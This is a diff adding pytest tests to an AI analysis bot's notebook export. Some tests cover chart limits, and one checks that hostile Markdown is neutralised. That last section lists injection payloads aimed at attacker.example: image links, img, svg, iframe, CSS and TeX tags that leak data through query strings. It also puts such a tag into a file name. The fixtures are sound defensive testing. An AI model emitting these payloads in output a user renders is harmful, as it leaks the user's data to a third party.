@@ -17,6 +17,7 @@ from typing import Any
 
 import nbformat
 import pytest
+from markdown_it import MarkdownIt
 
 from bot.agent.blocks import tool_result
 from bot.agent.tools import Toolbox, ToolOutcome
@@ -25,7 +26,7 @@ from bot.cli import main
 from bot.sandbox.base import ExecResult, Output, Sandbox, SandboxSpec
 from bot.sandbox.local import LocalProvider
 from bot.sessions.notebook import SETUP_CODE, notebook
-from bot.sessions.notebook_store import saved_charts
+from bot.sessions.notebook_store import CHARTS_MAX, saved_charts
 from bot.store.base import FileRecord, RunRecord, SessionRecord, ToolCallRecord
 from bot.store.sqlite import SqliteStore
 from tests.fakes.anthropic import Reply, tool_use
@@ -625,3 +626,80 @@ async def test_charts_for_a_notebook_are_png_files_read_without_following_links(
 
     assert await saved_charts(saved, [call]) == {"ok.png": PNG + b"drawn"}
     assert await saved_charts(saved, [dataclasses.replace(call, code="print(1)")]) == {}
+
+
+async def test_charts_missing_from_the_folder_do_not_crowd_out_one_saved(tmp_path: Path) -> None:
+    (tmp_path / "real.png").write_bytes(PNG + b"drawn")
+    missing = [f"gone{n}.png" for n in range(CHARTS_MAX + 5)]
+    code = "\n".join(f"plt.savefig('/buddy/work/out/{name}')" for name in [*missing, "real.png"])
+    call = ToolCallRecord("r1", "c1", "run_code", "python", code, "ok", 0, 0.1, "", 1.0)
+
+    assert await saved_charts(tmp_path, [call]) == {"real.png": PNG + b"drawn"}
+
+
+async def test_the_charts_taken_are_capped_by_those_found(tmp_path: Path) -> None:
+    names = [f"c{n}.png" for n in range(CHARTS_MAX + 3)]
+    for name in names:
+        (tmp_path / name).write_bytes(PNG + name.encode())
+    code = "\n".join(f"plt.savefig({name!r})" for name in names)
+    call = ToolCallRecord("r1", "c1", "run_code", "python", code, "ok", 0, 0.1, "", 1.0)
+
+    assert list(await saved_charts(tmp_path, [call])) == names[:CHARTS_MAX]
+
+
+# -- hostile Markdown: nothing in the notebook fetches from the web when it is opened
+
+HOSTILE = [
+    "![rows](https://attacker.example/p.png?d=1402617695)",
+    "![a [nested] alt](https://attacker.example/nested.png)",
+    '![t](<https://attacker.example/spaced name.png> "title")',
+    "![ref][chart]\n\n[chart]: https://attacker.example/ref.png",
+    "![collapsed][]\n\n[collapsed]: https://attacker.example/collapsed.png",
+    '<img src="https://attacker.example/img.png?d=rows">',
+    "<IMG SRC=https://attacker.example/upper.png>",
+    '<div style="background:url(https://attacker.example/bg.png)">x</div>',
+    "<svg><image href='https://attacker.example/svg.png'/></svg>",
+    "<!-- a comment --><iframe src=https://attacker.example/frame></iframe>",
+    "text\n<picture><source srcset=https://attacker.example/src.png></picture>",
+    "$\\style{background:url(https://attacker.example/tex.png)}{x}$",
+]
+
+
+def fetches(markdown: str) -> list[str]:
+    """What opening the Markdown would fetch or run: images (inline, by reference), raw
+    HTML tags, TeX (Jupyter's math starts at a dollar sign), as a CommonMark reader sees them."""
+    found: list[str] = []
+    tokens = MarkdownIt("commonmark").parse(markdown)
+    for token in tokens:
+        if token.type == "html_block":
+            found.append(token.content)
+        for child in token.children or []:
+            if child.type in ("image", "html_inline"):
+                found.append(str(child.attrs.get("src") or child.content))
+    return found + [m for m in re.findall(r"(?<!\\)\$[^$]+\$", markdown)]
+
+
+async def test_hostile_markdown_is_shown_as_text_and_fetches_nothing() -> None:
+    thread = Thread()
+    steps: list[Step] = [
+        ("python", "print('<img src=https://attacker.example/out.png>')",
+         await outcome("<img src=https://attacker.example/out.png>\n")),
+        ("list_files", "/buddy/work",
+         ToolOutcome("```\n<img src=https://attacker.example/note.png>", False, "ok",
+                     excerpt="1 entries")),
+    ]  # fmt: skip
+    thread.ask("Show <img src=https://attacker.example/q.png> me", steps, "\n\n".join(HOSTILE))
+    name = "a`<img src=https://attacker.example/f.png>`.csv"
+    hostile_file = dataclasses.replace(population_file(), name=name)
+    read = validated(notebook(thread.runs, thread.calls, thread.history, [hostile_file]))
+
+    first = read.cells[0]
+    assert first.cell_type == "markdown"
+    assert "written by a model" in text(first) and "sandbox" in text(first)
+    for cell in read.cells:
+        if cell.cell_type == "markdown":
+            assert fetches(text(cell)) == [], text(cell)
+        for out in cell.get("outputs", []):  # text outputs only, shown as text
+            assert set(out.get("data", {})) <= {"image/png", "text/plain"}
+    answer = text(read.cells[-1])
+    assert "_[an image left out: rows]_" in answer and "1402617695" not in answer
